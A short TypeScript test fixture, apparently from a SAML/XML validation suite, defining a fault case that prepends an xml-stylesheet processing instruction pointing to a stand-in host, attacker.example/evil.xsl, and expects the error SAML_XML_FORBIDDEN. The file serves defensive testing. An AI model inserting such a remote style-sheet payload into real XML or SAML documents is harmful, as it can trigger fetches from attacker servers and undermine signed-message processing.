import type { Fault } from "../fault.ts";

export const stylesheetBeforeRoot: Fault = {
  name: "stylesheet-before-root",
  family: "content",
  description: "A processing instruction before the document's root names a style sheet to fetch.",
  source: "https://www.w3.org/TR/xml-stylesheet/",
  code: "SAML_XML_FORBIDDEN",
  signed: (xml) => `<?xml-stylesheet type="text/xsl" href="http://attacker.example/evil.xsl"?>${xml}`,
};
